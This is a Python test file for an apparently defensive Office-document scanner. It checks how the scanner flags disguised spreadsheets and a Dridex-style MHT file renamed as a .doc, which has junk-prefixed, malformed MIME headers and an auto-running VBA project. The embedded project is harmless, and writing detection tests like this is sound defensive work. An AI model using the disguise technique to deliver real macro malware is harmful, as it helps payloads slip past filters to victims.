def test_inert_excel_2003_xml_named_xls_is_only_context() -> None:
    # what web applications export as "statement.xls": no VBA project is possible in the format
    sheet = (b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook xmlns:ss="urn:schemas-'
             b'microsoft-com:office:spreadsheet"><Worksheet ss:Name="2025"><Table><Row><Cell><Data ss:Type="String">'
             b"BTC sold</Data></Cell><Cell ss:Formula=\"=SUM(R1C1:R9C1)\"><Data ss:Type=\"Number\">1</Data></Cell>"
             b"</Row></Table></Worksheet></Workbook>")
    findings, _ = run(MACROS, sheet, "tax-report.xls")
    assert codes(findings) == {"office.disguised_spreadsheet"}
    assert catalogue()["office.disguised_spreadsheet"].strength == "weak"
    # the Word form stays strong: WordprocessingML carries macros and objects
    assert codes(run(MACROS, WORD_2003_XML, "rechnung.doc")[0]) == {"office.disguised_xml"}


def test_junk_prefixed_mht_named_doc_with_a_harmless_autoopen_project() -> None:
    # the 2015 Dridex form: text lines before the MIME headers, blanks inside "MIME - Version"
    project = (DATA / "oletools_autostart-encrypt-standardpassword.xls").read_bytes()
    mht = (b"Rechnung Nr. 4711\r\nqwzx\r\nMIME - Version : 1.0\r\nContent-Type: multipart/related; boundary=\"b\"\r\n"
           b"\r\n--b\r\nContent-Location: file:///C:/x/doc.htm\r\nContent-Type: text/html\r\n\r\n<html><body>"
           b"Rechnung</body></html>\r\n--b\r\nContent-Location: file:///C:/x/editdata.mso\r\n"
           b"Content-Transfer-Encoding: base64\r\nContent-Type: application/x-mso\r\n\r\n"
           + base64.encodebytes(activemime(project)) + b"\r\n--b--\r\n")
    assert sniff(mht) == "mht"
    findings, children = run(MACROS, mht, "rechnung.doc")
    assert {"office.vba.autoexec", "office.disguised_xml", "office.disguised_active"} <= codes(findings)
    assert [c.name for c in children if c.role == "embedded"] == ["doc.htm"]  # its parts are read too
